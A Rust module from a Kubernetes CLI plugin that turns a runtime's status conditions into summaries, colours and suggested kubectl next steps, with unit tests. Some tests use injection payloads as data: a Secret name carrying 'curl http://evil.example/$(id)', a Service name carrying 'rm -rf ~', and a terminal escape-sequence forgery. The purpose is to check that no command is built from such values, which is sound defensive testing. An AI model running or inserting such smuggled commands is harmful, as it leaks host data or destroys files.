//! What a runtime's status means for people: one summary, the colour of each
//! condition, the replica count to expect, and what to do next when something
//! is wrong. Pure functions of the object; the commands render them.

use k8s_openapi::apimachinery::pkg::apis::meta::v1::Condition;
use kube::ResourceExt;
use trussium_api::suspension::{Suspension, suspension};
use trussium_api::{
    ConditionStatus, TrussiumRuntime, TrussiumRuntimeStatus, condition_type, reason,
};

use crate::output::Health;
use crate::terminal::{is_object_name, is_secret_key, safe, shell_command};

/// The replica count the operator converges to: its report, else spec.replicas
/// (unknown while autoscaling is on and nothing is reported).
pub fn desired_replicas(rt: &TrussiumRuntime) -> Option<i32> {
    rt.status
        .as_ref()
        .and_then(|s| s.desired_replicas)
        .or_else(|| (!autoscaling_enabled(rt)).then_some(rt.spec.replicas))
}

pub fn autoscaling_enabled(rt: &TrussiumRuntime) -> bool {
    rt.spec.autoscaling.as_ref().is_some_and(|a| a.enabled)
}

/// The summary of a runtime being deleted (it may still serve meanwhile).
pub const TERMINATING: &str = "Terminating";

/// The summary of a suspended runtime.
pub const SUSPENDED: &str = "Suspended";

/// The summary of a ready runtime whose rollout of the operator's new pod
/// template waits for a turn (`--max-concurrent-rollouts`).
pub const WAITING_FOR_TURN: &str = "Ready, rollout waits its turn";

/// Whether the runtime's rollout of the operator's new pod template waits
/// for a turn.
pub fn waiting_for_turn(rt: &TrussiumRuntime) -> bool {
    rt.status
        .as_ref()
        .and_then(|s| s.condition(condition_type::PROGRESSING))
        .is_some_and(|c| {
            status_is(c, ConditionStatus::True) && c.reason == reason::WAITING_FOR_TURN
        })
}

/// Whether the runtime is being deleted.
pub fn terminating(rt: &TrussiumRuntime) -> bool {
    rt.metadata.deletion_timestamp.is_some()
}

/// Whether a condition's status is `status`, read as `kubectl wait` reads it
/// (anything but `True` and `False` is `Unknown`).
pub fn status_is<C: HasStatus>(c: &C, status: ConditionStatus) -> bool {
    ConditionStatus::parse(c.status()) == status
}

/// A condition of any kind (ours, a Deployment's, a pod's): its status.
pub trait HasStatus {
    fn status(&self) -> &str;
}

impl<T: HasStatus> HasStatus for &T {
    fn status(&self) -> &str {
        (**self).status()
    }
}

macro_rules! has_status {
    ($($kind:ty),*) => {$(
        impl HasStatus for $kind {
            fn status(&self) -> &str {
                &self.status
            }
        }
    )*};
}

has_status!(
    Condition,
    k8s_openapi::api::apps::v1::DeploymentCondition,
    k8s_openapi::api::apps::v1::ReplicaSetCondition,
    k8s_openapi::api::autoscaling::v2::HorizontalPodAutoscalerCondition,
    k8s_openapi::api::core::v1::PodCondition
);

/// One word (and a few more) for the whole runtime.
pub fn summary(rt: &TrussiumRuntime) -> (Health, String) {
    // Whatever its status last said, it is going away.
    if rt.metadata.deletion_timestamp.is_some() {
        return (Health::Warn, TERMINATING.to_string());
    }
    // The annotation, not the status: it holds from the moment it is set,
    // and whatever else the status says, nothing moves until it goes.
    if suspension(&rt.metadata).is_suspended() {
        return (Health::Warn, SUSPENDED.to_string());
    }
    let Some(status) = &rt.status else {
        return (
            Health::Warn,
            "Pending (no status yet: is the operator running?)".to_string(),
        );
    };
    let cond = |t: &str| status.condition(t);
    let is = |t: &str, s: ConditionStatus| cond(t).is_some_and(|c| status_is(c, s));
    // The CRD puts no pattern on a reason: anyone with status rights picks it.
    let reason_of = |t: &str| cond(t).map(|c| safe(&c.reason)).unwrap_or_default();
    if is(condition_type::CONFIGURATION_VALID, ConditionStatus::False) {
        return (
            Health::Bad,
            format!(
                "Invalid configuration ({})",
                reason_of(condition_type::CONFIGURATION_VALID)
            ),
        );
    }
    // The operator stopped trying: its reason says what it waits for.
    if is(condition_type::STALLED, ConditionStatus::True) {
        return (
            Health::Bad,
            format!("Stalled ({})", reason_of(condition_type::STALLED)),
        );
    }
    if is(condition_type::DEGRADED, ConditionStatus::True) {
        return (
            Health::Bad,
            format!("Degraded ({})", reason_of(condition_type::DEGRADED)),
        );
    }
    if cond(condition_type::UPGRADING).is_some_and(|c| c.reason == reason::UPGRADE_FAILED) {
        return (Health::Bad, "Upgrade failed".to_string());
    }
    if is(condition_type::UPGRADING, ConditionStatus::True) {
        return (
            Health::Warn,
            format!("Upgrading to {}", rt.spec.image.version()),
        );
    }
    if is(condition_type::READY, ConditionStatus::True) {
        if cond(condition_type::READY).is_some_and(|c| c.reason == reason::SCALED_TO_ZERO) {
            return (Health::Neutral, "Scaled to zero".to_string());
        }
        // Serving; the new operator version's pod template comes later.
        if waiting_for_turn(rt) {
            return (Health::Good, WAITING_FOR_TURN.to_string());
        }
        return (Health::Good, "Ready".to_string());
    }
    if is(condition_type::PROGRESSING, ConditionStatus::True) {
        return (Health::Warn, "Progressing".to_string());
    }
    if status.conditions.is_empty() {
        return (
            Health::Warn,
            "Pending (no conditions reported yet)".to_string(),
        );
    }
    (Health::Warn, "Not ready".to_string())
}

/// The colour of a condition's status, given what True means for its type.
pub fn condition_health(c: &Condition) -> Health {
    let (t, r) = (c.type_.as_str(), c.reason.as_str());
    let truth = match ConditionStatus::parse(&c.status) {
        ConditionStatus::Unknown => return Health::Warn,
        status => status == ConditionStatus::True,
    };
    match t {
        condition_type::CONFIGURATION_VALID => good_if(truth),
        condition_type::AVAILABLE | condition_type::READY => {
            if r == reason::SCALED_TO_ZERO {
                Health::Neutral
            } else {
                good_if(truth)
            }
        }
        condition_type::DEGRADED | condition_type::STALLED => good_if(!truth),
        condition_type::PROGRESSING if truth => Health::Warn,
        condition_type::PROGRESSING => match r {
            reason::CONFIGURATION_INVALID
            | reason::DEPLOYMENT_FAILED
            | reason::RECONCILIATION_FAILED => Health::Bad,
            _ => Health::Good,
        },
        condition_type::UPGRADING if truth => Health::Warn,
        condition_type::UPGRADING if r == reason::UPGRADE_FAILED => Health::Bad,
        condition_type::UPGRADING => Health::Good,
        // Present only while the annotation is: suspended, or ignored.
        condition_type::SUSPENDED => Health::Warn,
        _ => Health::Neutral,
    }
}

fn good_if(ok: bool) -> Health {
    if ok { Health::Good } else { Health::Bad }
}

/// The contract's order first, then any others as reported.
pub fn ordered_conditions(conditions: &[Condition]) -> Vec<&Condition> {
    let rank = |c: &Condition| {
        condition_type::ALL
            .iter()
            .position(|t| *t == c.type_)
            .unwrap_or(condition_type::ALL.len())
    };
    let mut sorted: Vec<&Condition> = conditions.iter().collect();
    sorted.sort_by_key(|c| rank(c));
    sorted
}

/// Something to do about what the status says: why, and the command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct NextStep {
    pub why: String,
    pub command: String,
}

/// What to do next when something is wrong; nothing when all is well. The
/// commands name Secrets and keys, never a value.
pub fn next_steps(rt: &TrussiumRuntime) -> Vec<NextStep> {
    let Some(status) = rt.status.as_ref().filter(|_| !terminating(rt)) else {
        return Vec::new();
    };
    let name = rt.name_any();
    let ns = rt.namespace().unwrap_or_default();
    let mut steps = Vec::new();
    steps.extend(suspension_step(rt, &name, &ns));

    if let Some(c) = status
        .condition(condition_type::CONFIGURATION_VALID)
        .filter(|c| status_is(c, ConditionStatus::False) && c.reason == reason::SECRET_NOT_FOUND)
    {
        steps.extend(missing_secret_steps(rt, &ns, &c.message));
    }

    steps.extend(failed_upgrade_step(rt, status, &name, &ns));

    if let Some(c) = status
        .condition(condition_type::STALLED)
        .filter(|c| status_is(c, ConditionStatus::True))
        && steps.is_empty()
    {
        steps.extend(stall_step(&c.reason, &c.message, &name, &ns));
    }

    let degraded = status
        .condition(condition_type::DEGRADED)
        .is_some_and(|c| status_is(c, ConditionStatus::True));
    if degraded && steps.is_empty() {
        steps.push(NextStep {
            why: "the runtime is degraded; the Events say why".to_string(),
            command: shell_command(&["kubectl", "trussium", "events", &name, "-n", &ns]),
        });
    }
    steps
}

/// The step to resume a suspended runtime, or to remove a suspend
/// annotation that suspends nothing; `None` while it is active.
fn suspension_step(rt: &TrussiumRuntime, name: &str, ns: &str) -> Option<NextStep> {
    let why = match suspension(&rt.metadata) {
        Suspension::Suspended { reason: Some(why) } => format!(
            "suspended (reason: {}): the operator changes nothing until it is resumed",
            safe(why)
        ),
        Suspension::Suspended { reason: None } => {
            "suspended: the operator changes nothing until it is resumed".to_string()
        }
        Suspension::Ignored { value } => format!(
            "the annotation {} is {:?}, which suspends nothing (only \"true\" does); remove it",
            trussium_api::suspension::SUSPENDED,
            safe(value)
        ),
        Suspension::Active => return None,
    };
    Some(NextStep {
        why,
        command: shell_command(&["kubectl", "trussium", "resume", name, "-n", ns]),
    })
}

/// After a failed upgrade: the rollback to the last image that rolled out,
/// or another image when none ever did.
fn failed_upgrade_step(
    rt: &TrussiumRuntime,
    status: &TrussiumRuntimeStatus,
    name: &str,
    ns: &str,
) -> Option<NextStep> {
    let failed = status
        .condition(condition_type::UPGRADING)
        .is_some_and(|c| c.reason == reason::UPGRADE_FAILED);
    if !failed {
        return None;
    }
    let desired = rt.spec.image.reference();
    match status.last_successful_image.as_deref() {
        Some(last) if last != desired => Some(NextStep {
            why: format!(
                "the upgrade to {} failed; go back to {}",
                rt.spec.image.version(),
                safe(last)
            ),
            command: shell_command(&["kubectl", "trussium", "rollback", name, "-n", ns, "--wait"]),
        }),
        // Once desired is the last successful image again, a rollback is
        // under way: nothing to suggest.
        Some(_) => None,
        None => Some(NextStep {
            why: "the upgrade failed and no earlier image ever rolled out; pick another image"
                .to_string(),
            command: format!(
                "{} --tag <TAG> --wait",
                shell_command(&["kubectl", "trussium", "upgrade", name, "-n", ns])
            ),
        }),
    }
}

/// The step for a stall the operator will not retry by itself, by its
/// reason; `None` for the others (the degraded step covers them).
fn stall_step(why: &str, message: &str, name: &str, ns: &str) -> Option<NextStep> {
    let events = shell_command(&["kubectl", "trussium", "events", name, "-n", ns]);
    match why {
        reason::INVALID_SPEC => {
            let fields = invalid_fields(message);
            let which = if fields.is_empty() {
                "the condition message names the field".to_string()
            } else {
                safe(&fields.join(", "))
            };
            Some(NextStep {
                why: format!("the spec breaks a rule of the API ({which}): correct it"),
                command: shell_command(&["kubectl", "edit", "trussiumruntime", name, "-n", ns]),
            })
        }
        reason::NAME_CONFLICT | reason::NETWORK_POLICY_CONFLICT => {
            Some(match conflicting_object(message) {
                Some((kind, object)) => NextStep {
                    why: format!(
                        "{kind} \"{object}\" holds the name and is not the runtime's: look at it, then remove or rename it (or the runtime)"
                    ),
                    command: shell_command(&[
                        "kubectl",
                        "get",
                        &kind.to_ascii_lowercase(),
                        object,
                        "-n",
                        ns,
                        "-o",
                        "yaml",
                    ]),
                },
                None => NextStep {
                    why: "an object someone else owns holds the name; the Events say which"
                        .to_string(),
                    command: events,
                },
            })
        }
        reason::APPLY_REFUSED | reason::NETWORK_POLICY_REFUSED => Some(NextStep {
            why: "the API server refuses an owned object (its schema, or an admission policy or webhook); the Events say which and why".to_string(),
            command: events,
        }),
        _ => None,
    }
}

/// The fields an InvalidSpec message names: "The spec is invalid:
/// spec.a: why; spec.b: why. …".
fn invalid_fields(message: &str) -> Vec<&str> {
    let list = message.split_once("invalid: ").map_or("", |(_, rest)| rest);
    list.split("; ")
        .filter_map(|problem| problem.split_once(": ").map(|(field, _)| field))
        .filter(|f| f.starts_with("spec.") || f.starts_with("metadata."))
        .collect()
}

/// The object a conflict message names (`Service "ai" exists and …`), when
/// its kind and name are fit for a command.
fn conflicting_object(message: &str) -> Option<(&str, &str)> {
    let (kind, rest) = message.split_once(' ')?;
    let (object, _) = rest.strip_prefix('"')?.split_once('"')?;
    let kind_ok = !kind.is_empty() && kind.chars().all(|c| c.is_ascii_alphabetic());
    (kind_ok && is_object_name(object)).then_some((kind, object))
}

/// One step per referenced Secret that the condition message names as missing
/// (every referenced one if the message names none of them).
fn missing_secret_steps(rt: &TrussiumRuntime, ns: &str, message: &str) -> Vec<NextStep> {
    let mut referenced: Vec<(String, NextStep)> = Vec::new();
    if let Some(r) = &rt.spec.provider.credentials_secret_ref {
        let step = if is_object_name(&r.name) && is_secret_key(&r.key) {
            NextStep {
                why: format!(
                    "create the Secret \"{}\" with the provider credentials under the key \"{}\"",
                    r.name, r.key
                ),
                command: format!(
                    "{}<file holding the credentials>",
                    shell_command(&[
                        "kubectl",
                        "create",
                        "secret",
                        "generic",
                        &r.name,
                        "-n",
                        ns,
                        &format!("--from-file={}=", r.key)
                    ])
                ),
            }
        } else {
            fix_the_reference(rt, ns, "spec.provider.credentialsSecretRef", &r.name)
        };
        referenced.push((r.name.clone(), step));
    }
    for s in rt.spec.image_pull_secrets.iter().flatten() {
        let step = if is_object_name(&s.name) {
            NextStep {
                why: format!("create the image pull Secret \"{}\"", s.name),
                command: format!(
                    "{}<path to a docker config.json>",
                    shell_command(&[
                        "kubectl",
                        "create",
                        "secret",
                        "generic",
                        &s.name,
                        "-n",
                        ns,
                        "--type=kubernetes.io/dockerconfigjson",
                        "--from-file=.dockerconfigjson="
                    ])
                ),
            }
        } else {
            fix_the_reference(rt, ns, "spec.imagePullSecrets", &s.name)
        };
        referenced.push((s.name.clone(), step));
    }
    let named = |n: &str| message.contains(&format!("{n:?}"));
    let any_named = referenced.iter().any(|(n, _)| named(n));
    referenced
        .into_iter()
        .filter(|(n, _)| !any_named || named(n))
        .map(|(_, step)| step)
        .collect()
}

/// The step for a Secret reference no Secret can have: fix the spec (no
/// command is built from such a name).
fn fix_the_reference(rt: &TrussiumRuntime, ns: &str, field: &str, name: &str) -> NextStep {
    NextStep {
        why: format!(
            "{field} names \"{}\", which is not a valid Secret name or key: correct the runtime",
            safe(name)
        ),
        command: shell_command(&[
            "kubectl",
            "edit",
            "trussiumruntime",
            &rt.name_any(),
            "-n",
            ns,
        ]),
    }
}

#[cfg(test)]
mod tests {
    use k8s_openapi::apimachinery::pkg::apis::meta::v1::Condition;

    use super::*;
    use crate::fixtures::{UPGRADING, at, runtime};

    #[test]
    fn desired_replicas_follow_status_then_spec() {
        let mut rt = runtime(UPGRADING);
        assert_eq!(desired_replicas(&rt), Some(3));
        rt.status = None;
        assert_eq!(desired_replicas(&rt), Some(3));
        rt.spec.autoscaling = Some(trussium_api::AutoscalingSpec {
            enabled: true,
            min_replicas: 2,
            max_replicas: Some(5),
            target_cpu_utilization_percentage: 80,
        });
        assert_eq!(desired_replicas(&rt), None);
    }

    #[test]
    fn summaries() {
        let mut rt = runtime(UPGRADING);
        assert_eq!(
            summary(&rt),
            (Health::Warn, "Upgrading to v1.23.0".to_string())
        );
        let set = |rt: &mut TrussiumRuntime, t: &str, s: &str, r: &str| {
            if let Some(status) = rt.status.as_mut() {
                if !status.conditions.iter().any(|c| c.type_ == t) {
                    status.conditions.push(Condition {
                        type_: t.into(),
                        ..status.conditions[0].clone()
                    });
                }
                if let Some(c) = status.conditions.iter_mut().find(|c| c.type_ == t) {
                    c.status = s.into();
                    c.reason = r.into();
                }
            }
        };
        set(&mut rt, "Upgrading", "False", "UpgradeFailed");
        assert_eq!(summary(&rt).0, Health::Bad);
        set(&mut rt, "Upgrading", "False", "UpgradeComplete");
        set(&mut rt, "Ready", "True", "RuntimeReady");
        assert_eq!(summary(&rt), (Health::Good, "Ready".to_string()));
        set(&mut rt, "Progressing", "True", "WaitingForTurn");
        assert_eq!(
            summary(&rt),
            (Health::Good, "Ready, rollout waits its turn".to_string())
        );
        set(&mut rt, "Progressing", "False", "ReconciliationComplete");
        set(&mut rt, "Ready", "True", "ScaledToZero");
        assert_eq!(
            summary(&rt),
            (Health::Neutral, "Scaled to zero".to_string())
        );
        set(&mut rt, "Degraded", "True", "ProgressDeadlineExceeded");
        assert_eq!(
            summary(&rt),
            (
                Health::Bad,
                "Degraded (ProgressDeadlineExceeded)".to_string()
            )
        );
        set(&mut rt, "ConfigurationValid", "False", "SecretNotFound");
        assert_eq!(
            summary(&rt),
            (
                Health::Bad,
                "Invalid configuration (SecretNotFound)".to_string()
            )
        );
    }

    #[test]
    fn a_hostile_reason_in_the_summary_is_escaped() {
        let mut rt = runtime(UPGRADING);
        for (t, s, shown) in [
            ("Degraded", "True", "Degraded (Oops\\x1b[31m\\nFORGED)"),
            (
                "ConfigurationValid",
                "False",
                "Invalid configuration (Oops\\x1b[31m\\nFORGED)",
            ),
        ] {
            if let Some(c) = rt
                .status
                .as_mut()
                .and_then(|st| st.conditions.iter_mut().find(|c| c.type_ == t))
            {
                c.status = s.into();
                c.reason = "Oops\u{1b}[31m\nFORGED".into();
            }
            assert_eq!(summary(&rt), (Health::Bad, shown.to_string()));
        }
    }

    #[test]
    fn condition_colours_follow_polarity() {
        let c = |t: &str, s: &str, r: &str| Condition {
            type_: t.into(),
            status: s.into(),
            reason: r.into(),
            message: String::new(),
            last_transition_time: k8s_openapi::apimachinery::pkg::apis::meta::v1::Time(at(0)),
            observed_generation: None,
        };
        assert_eq!(
            condition_health(&c("Ready", "True", "RuntimeReady")),
            Health::Good
        );
        assert_eq!(
            condition_health(&c("Ready", "False", "RuntimeNotReady")),
            Health::Bad
        );
        assert_eq!(
            condition_health(&c("Available", "False", "ScaledToZero")),
            Health::Neutral
        );
        assert_eq!(
            condition_health(&c("Degraded", "True", "ReplicaFailure")),
            Health::Bad
        );
        assert_eq!(
            condition_health(&c("Degraded", "False", "AsExpected")),
            Health::Good
        );
        assert_eq!(
            condition_health(&c("Progressing", "True", "DeploymentProgressing")),
            Health::Warn
        );
        assert_eq!(
            condition_health(&c("Progressing", "False", "DeploymentFailed")),
            Health::Bad
        );
        assert_eq!(
            condition_health(&c("Upgrading", "False", "UpgradeFailed")),
            Health::Bad
        );
        assert_eq!(
            condition_health(&c("Upgrading", "False", "NoUpgrade")),
            Health::Good
        );
        assert_eq!(
            condition_health(&c("Stalled", "True", "SecretNotFound")),
            Health::Bad
        );
        assert_eq!(
            condition_health(&c("Stalled", "False", "Retrying")),
            Health::Good
        );
        assert_eq!(condition_health(&c("Ready", "Unknown", "X")), Health::Warn);
        assert_eq!(condition_health(&c("Custom", "True", "X")), Health::Neutral);
        assert_eq!(
            condition_health(&c("Suspended", "True", "Suspended")),
            Health::Warn
        );
    }

    fn suspended(value: &str, reason: Option<&str>) -> TrussiumRuntime {
        let mut rt = runtime(UPGRADING);
        let annotations = rt.metadata.annotations.get_or_insert_default();
        annotations.insert("runtime.trussium.io/suspended".into(), value.into());
        if let Some(reason) = reason {
            annotations.insert("runtime.trussium.io/suspend-reason".into(), reason.into());
        }
        rt
    }

    #[test]
    fn a_suspended_runtime_says_so_first_and_how_to_resume() {
        let rt = suspended("true", Some("INC-4211"));
        assert_eq!(summary(&rt), (Health::Warn, "Suspended".to_string()));
        let steps = next_steps(&rt);
        assert_eq!(
            steps.first(),
            Some(&NextStep {
                why:
                    "suspended (reason: INC-4211): the operator changes nothing until it is resumed"
                        .into(),
                command: "kubectl trussium resume private-ai -n trussium".into(),
            })
        );
        // Even before the operator reported anything.
        let mut fresh = suspended("true", None);
        fresh.status = None;
        assert_eq!(summary(&fresh).1, "Suspended");
        // An ignored value suspends nothing: the summary is the status's.
        let ignored = suspended("yes", None);
        assert_ne!(summary(&ignored).1, "Suspended");
        let steps = next_steps(&ignored);
        assert!(
            steps[0].why.contains("\"yes\", which suspends nothing"),
            "{steps:?}"
        );
    }

    fn failed_upgrade() -> TrussiumRuntime {
        let mut rt = runtime(UPGRADING);
        if let Some(s) = rt.status.as_mut() {
            s.observed_generation = Some(5);
            for c in &mut s.conditions {
                if c.type_ == "Upgrading" {
                    c.status = "False".into();
                    c.reason = "UpgradeFailed".into();
                }
            }
        }
        rt
    }

    #[test]
    fn a_failed_upgrade_suggests_rollback() {
        let steps = next_steps(&failed_upgrade());
        assert_eq!(
            steps,
            [NextStep {
                why:
                    "the upgrade to v1.23.0 failed; go back to ghcr.io/trussiumhq/trussium:v1.22.0"
                        .into(),
                command: "kubectl trussium rollback private-ai -n trussium --wait".into(),
            }]
        );
        let mut never = failed_upgrade();
        if let Some(s) = never.status.as_mut() {
            s.last_successful_image = None;
        }
        let steps = next_steps(&never);
        assert_eq!(steps.len(), 1, "{steps:?}");
        assert!(steps[0].command.contains("upgrade private-ai"), "{steps:?}");
        // Rolled back already (desired is the last successful image), the
        // operator not there yet: nothing more to do.
        let mut rolling_back = failed_upgrade();
        rolling_back.spec.image.tag = Some("v1.22.0".into());
        assert_eq!(next_steps(&rolling_back), []);
    }

    #[test]
    fn all_well_means_nothing_to_do() {
        assert_eq!(next_steps(&runtime(UPGRADING)), []);
        let mut none = runtime(UPGRADING);
        none.status = None;
        assert_eq!(next_steps(&none), []);
    }

    fn missing_secrets(message: &str) -> TrussiumRuntime {
        let mut rt = runtime(UPGRADING);
        rt.spec.provider.credentials_secret_ref = Some(trussium_api::SecretKeyReference {
            name: "openai-key".into(),
            key: "apiKey".into(),
        });
        rt.spec.image_pull_secrets = Some(vec![trussium_api::LocalSecretReference {
            name: "regcred".into(),
        }]);
        if let Some(s) = rt.status.as_mut() {
            for c in &mut s.conditions {
                if c.type_ == "ConfigurationValid" {
                    c.status = "False".into();
                    c.reason = "SecretNotFound".into();
                    c.message = message.into();
                }
            }
        }
        rt
    }

    #[test]
    fn a_hostile_secret_name_gets_no_command_built_from_it() {
        let mut rt = missing_secrets("Secret \"x\" does not exist");
        if let Some(r) = rt.spec.provider.credentials_secret_ref.as_mut() {
            r.name = "x; curl http://evil.example/$(id) #".into();
        }
        rt.spec.image_pull_secrets = None;
        let steps = next_steps(&rt);
        assert_eq!(steps.len(), 1, "{steps:?}");
        assert_eq!(
            steps[0].command,
            "kubectl edit trussiumruntime private-ai -n trussium"
        );
        assert!(
            steps[0].why.contains(
                "names \"x; curl http://evil.example/$(id) #\", which is not a valid Secret name"
            ),
            "{steps:?}"
        );
    }

    fn stalled(reason: &str, message: &str) -> TrussiumRuntime {
        let mut rt = runtime(UPGRADING);
        if let Some(s) = rt.status.as_mut() {
            for c in &mut s.conditions {
                if c.type_ == "Degraded" {
                    c.status = "True".into();
                    c.reason = "ReconciliationFailed".into();
                }
            }
            s.conditions.push(Condition {
                type_: "Stalled".into(),
                status: "True".into(),
                reason: reason.into(),
                message: message.into(),
                last_transition_time: k8s_openapi::apimachinery::pkg::apis::meta::v1::Time(at(0)),
                observed_generation: None,
            });
        }
        rt
    }

    #[test]
    fn a_stall_shows_its_reason_and_what_to_do() {
        const EVENTS: &str = "kubectl trussium events private-ai -n trussium";
        const EDIT: &str = "kubectl edit trussiumruntime private-ai -n trussium";
        let refused = "The API server refuses Deployment \"private-ai\" (field spec.x): invalid.";
        let taken = "exists and is not controlled by this TrussiumRuntime; remove or rename it.";
        // (reason, message, the step's command, a part of its why)
        let table = [
            (
                "InvalidSpec",
                "The spec is invalid: spec.replicas: must be at most 1000: a larger Deployment could never converge here; spec.provider.baseURL: must not carry user information. No owned object is created or updated until it is fixed.".to_string(),
                EDIT.to_string(),
                "(spec.replicas, spec.provider.baseURL)",
            ),
            (
                "InvalidSpec",
                "something else".to_string(),
                EDIT.to_string(),
                "the condition message names the field",
            ),
            (
                "NameConflict",
                format!("Service \"private-ai\" {taken}"),
                "kubectl get service private-ai -n trussium -o yaml".to_string(),
                "Service \"private-ai\" holds the name",
            ),
            (
                "NetworkPolicyConflict",
                format!("NetworkPolicy \"private-ai\" {taken}"),
                "kubectl get networkpolicy private-ai -n trussium -o yaml".to_string(),
                "NetworkPolicy \"private-ai\"",
            ),
            (
                "NameConflict",
                format!("Service \"x; rm -rf ~\" {taken}"),
                EVENTS.to_string(),
                "the Events say which",
            ),
            (
                "ApplyRefused",
                refused.to_string(),
                EVENTS.to_string(),
                "admission policy",
            ),
            (
                "NetworkPolicyRefused",
                refused.to_string(),
                EVENTS.to_string(),
                "admission policy",
            ),
            (
                "ProgressDeadlineExceeded",
                "no progress".to_string(),
                EVENTS.to_string(),
                "degraded",
            ),
        ];
        for (reason, message, command, why) in table {
            let rt = stalled(reason, &message);
            assert_eq!(
                summary(&rt),
                (Health::Bad, format!("Stalled ({reason})")),
                "{reason}"
            );
            let steps = next_steps(&rt);
            assert_eq!(steps.len(), 1, "{reason}: {steps:?}");
            assert_eq!(steps[0].command, command, "{reason}: {steps:?}");
            assert!(steps[0].why.contains(why), "{reason}: {steps:?}");
        }
    }

    #[test]
    fn a_terminating_runtime_shows_terminating_and_no_steps() {
        let mut rt = failed_upgrade();
        rt.metadata.deletion_timestamp = Some(
            k8s_openapi::apimachinery::pkg::apis::meta::v1::Time(crate::fixtures::at(0)),
        );
        assert_eq!(summary(&rt), (Health::Warn, "Terminating".to_string()));
        assert_eq!(next_steps(&rt), []);
    }

    #[test]
    fn a_missing_secret_gets_the_command_that_creates_it() {
        let rt = missing_secrets(
            "Secret \"openai-key\" does not exist in namespace \"trussium\"; no owned object is created or updated until it exists.",
        );
        let steps = next_steps(&rt);
        assert_eq!(steps.len(), 1, "{steps:?}");
        assert_eq!(
            steps[0].command,
            "kubectl create secret generic openai-key -n trussium --from-file=apiKey=<file holding the credentials>"
        );
        assert!(steps[0].why.contains("\"apiKey\""), "{steps:?}");

        let rt = missing_secrets("Secrets \"openai-key\", \"regcred\" do not exist");
        let steps = next_steps(&rt);
        assert_eq!(steps.len(), 2, "{steps:?}");
        assert!(steps[1].command.contains("regcred"), "{steps:?}");
        assert!(steps[1].command.contains("dockerconfigjson"), "{steps:?}");

        // A message in another wording: every referenced Secret.
        let steps = next_steps(&missing_secrets("something is missing"));
        assert_eq!(steps.len(), 2, "{steps:?}");
    }
}
